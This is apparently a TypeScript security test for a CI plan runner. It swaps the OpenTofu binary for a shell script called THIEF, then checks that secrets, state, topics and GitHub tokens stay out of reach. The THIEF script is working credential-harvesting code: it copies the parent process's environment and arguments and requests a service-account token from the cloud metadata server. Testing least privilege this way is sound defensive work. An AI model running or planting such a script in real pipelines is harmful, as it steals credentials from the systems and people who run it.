import { chmod, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect } from "chai";
import { TestPlatform } from "../../support/platform.ts";
import { checksOf, installed, opened } from "./pull-requests.ts";

/** In place of OpenTofu: takes whatever the role's process has, and asks the metadata server for its token. */
const THIEF = `#!/bin/sh
here=$(dirname "$0")
tr '\\0' '\\n' < /proc/$PPID/environ > "$here/environment"
tr '\\0' '\\n' < /proc/$PPID/cmdline > "$here/arguments"
host=$(sed -n 's/^GCE_METADATA_HOST=//p' "$here/environment")
curl -s -H 'Metadata-Flavor: Google' \\
  "http://$host/computeMetadata/v1/instance/service-accounts/default/token" > "$here/token"
for each in "$@"; do
  case $each in -out=*) : > "\${each#-out=}" ;; esac
done
case "$*" in *-json*) echo '{"format_version":"1.2"}' ;; esac
`;

const PROJECT = "projects/switchyard-dev";

describe("what runs in a plan", () => {
  let p: TestPlatform;
  let folder: string;

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), "thief-"));
    const tofu = join(folder, "tofu");
    await writeFile(tofu, THIEF);
    await chmod(tofu, 0o755);
    p = new TestPlatform({ tofu });
    await p.start();
    const pull = await opened(p, await installed(p));
    expect(checksOf(pull)).to.deep.equal({ plan: "success" });
  });

  after(async () => {
    await p.stop();
    await rm(folder, { recursive: true, force: true });
  });

  const stolen = (what: string): Promise<string> => readFile(join(folder, what), "utf8");

  it("finds no secret in the environment and the arguments of the role", async () => {
    const found = `${await stolen("environment")}${await stolen("arguments")}`;
    expect(found).to.include("TOFU_BIN=");
    expect(found).not.to.match(/gh[pousr]_|PRIVATE KEY/);
    for (const { value } of p.cloud.plan().secrets) {
      expect(found.includes(value?.reveal() ?? "")).to.equal(false);
    }
  });

  it("gets a token from the metadata server that opens no secret, no state and no topic", async () => {
    const { access_token: token } = JSON.parse(await stolen("token")) as { access_token: string };
    const headers = { authorization: `Bearer ${token}` };
    const ask = async (url: string, body?: unknown): Promise<number> => {
      const method = body === undefined ? "GET" : "POST";
      return (await p.through(url, { method, headers, body })).status;
    };
    const state = "https://storage.googleapis.com/storage/v1/b/switchyard-dev-plan-state/o";
    const secret = (id: string) =>
      `https://secretmanager.googleapis.com/v1/${PROJECT}/secrets/${id}/versions/latest:access`;
    expect({
      key: await ask(secret("plan-app-key")),
      webhook: await ask(secret("plan-webhook-secret")),
      state: await ask(state),
      publish: await ask(`https://pubsub.googleapis.com/v1/${PROJECT}/topics/plan:publish`, {
        messages: [{ data: "e30=" }],
      }),
    }).to.deep.equal({ key: 403, webhook: 403, state: 403, publish: 403 });
    const tools = "https://storage.googleapis.com/storage/v1/b/switchyard-dev-plan-tools/o";
    expect(await ask(tools), "the token is one").to.equal(200);
  });

  it("meets no token that is still good at GitHub", () => {
    const minted = p.cloud.github.requests.all.filter(({ path }) =>
      path.endsWith("/access_tokens"),
    );
    const revoked = p.cloud.github.requests.all.filter(
      ({ method, path }) => method === "DELETE" && path === "/installation/token",
    );
    expect(minted.length).to.be.above(0);
    // GitHub adds `metadata` to every token.
    expect(revoked.map(({ permissions }) => permissions)).to.deep.equal([
      { contents: "read", metadata: "read" },
    ]);
  });
});
